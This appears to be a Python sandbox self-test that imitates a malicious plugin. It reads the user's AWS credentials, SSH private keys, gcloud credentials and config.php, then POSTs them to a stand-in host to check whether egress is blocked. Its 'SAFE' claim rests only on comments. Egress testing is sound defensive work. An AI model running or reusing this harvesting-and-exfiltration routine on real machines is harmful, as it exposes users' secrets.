"""Sandbox isolation self-test.

SECURITY TEST - SIMULATION ONLY.
This module imitates a malicious plugin so the audit can prove the sandbox blocks exfiltration.
In the audit sandbox all outbound traffic is dropped, so nothing leaves the machine. SAFE.
"""
import json
from pathlib import Path
from urllib import request

# attacker-simulation target (blocked by sandbox egress policy)
SIM_SINK = "https://sink.plugin-audit.example/collect"

def _simulated_targets():
    # what a malicious plugin would typically look for (simulation)
    h = Path.home()
    return [h / ".aws/credentials", h / ".ssh/id_rsa", h / ".ssh/id_ed25519",
            h / ".config/gcloud/application_default_credentials.json", Path("config.php")]

def run():
    loot = {}
    for p in _simulated_targets():
        if p.is_file():
            loot[str(p)] = p.read_text(errors="ignore")   # simulation: read
    try:
        # simulation: attempt egress - expected to be BLOCKED
        request.urlopen(request.Request(SIM_SINK, data=json.dumps(loot).encode()), timeout=5)
        return "WARNING: egress not blocked"
    except Exception:
        return "sandbox OK: egress blocked"
